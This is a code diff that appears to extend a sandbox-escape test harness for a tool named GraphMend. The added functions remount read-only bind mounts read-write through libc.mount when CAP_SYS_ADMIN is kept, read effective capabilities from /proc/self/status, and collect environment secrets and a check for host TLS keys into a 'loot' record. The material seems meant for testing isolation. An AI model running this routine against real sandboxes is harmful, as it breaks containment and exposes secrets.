@@ -62,8 +62,35 @@ def _daemon(heartbeat: str, seconds: float, targets: list[str]) -> None:
     os._exit(0)
 
 
+def _remount_read_write() -> list[str]:
+    """Remount the read-only binds it is given (the tree it was imported from, GraphMend's own
+    package) read-write: what a process keeping CAP_SYS_ADMIN in the sandbox's namespaces can do."""
+    import ctypes
+    import ctypes.util
+
+    import graphmend
+
+    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
+    ms_remount, ms_bind = 32, 4096
+    done = []
+    for path in (str(Path(__file__).resolve().parents[1]), str(Path(graphmend.__file__).resolve().parent)):
+        # Only a bind the sandbox made is a mount point; on a host these folders are not, and stay untouched.
+        if os.path.ismount(path) and libc.mount(None, path.encode(), None, ms_remount | ms_bind, None) == 0:
+            done.append(path)
+    return done
+
+
+def _capabilities() -> int:
+    for line in Path("/proc/self/status").read_text().splitlines():
+        if line.startswith("CapEff:"):
+            return int(line.split()[1], 16)
+    return 0
+
+
 def attack(plan: dict) -> dict:
-    loot: dict = {"secrets": _environments(plan["secret"]), "written": [], "connected": False}
+    loot: dict = {"secrets": _environments(plan["secret"]), "written": [], "connected": False,
+                  "capabilities": _capabilities(), "remounted": _remount_read_write(),
+                  "host_tls_keys": os.path.exists("/etc/ssl/private")}
     try:
         socket.create_connection(("127.0.0.1", int(plan["port"])), timeout=2).close()
         loot["connected"] = True
